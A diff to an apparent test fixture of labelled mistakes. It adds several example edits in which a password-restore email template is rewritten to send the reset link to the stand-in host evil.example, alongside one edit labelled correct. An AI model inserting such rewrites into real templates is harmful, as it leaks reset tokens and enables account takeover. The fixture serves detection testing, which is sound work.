@@ -18,6 +18,21 @@ const MISTAKES = String.raw`
 mails/password-restore.json письма/чужой-адрес
 - { "$get": "params.link" }
 + ▸{ "$text": "https://evil.example/?u={params.link}" }
+mails/password-restore.json письма/чужой-адрес
+- { "$get": "params.link" }
++ ▸{ "$text": "https://evil.example/?a=b c{ params.link }" }
+mails/password-restore.json письма/чужой-адрес
+- { "$get": "params.link" }
++ ▸{ "$text": "{site.host}.evil.example/?u={params.link}" }
+mails/password-restore.json письма/чужой-адрес
+- { "$text": "Вы попросили
++ ▸{ "$text": "{settings.contacts.email}?u={params.link} Вы попросили
+mails/password-restore.json письма/чужой-адрес
+- { "type": "partial", "props": { "name": "letter-footer" } }
++ { "type": "partial", "props": { "name": "letter-footer", "params": { "link": ▸{ "$text": "https://evil.example/{params.link}" } } } }
+mails/order-cancelled.json верно
+- Заказ № {params.number} отменён" } } }
++ Заказ на {site.host}: № {params.number} от {params.date}, {params.total}" } } }
 desk/roles.json рабочее-место/владелец
 - "roles": [
 -     {
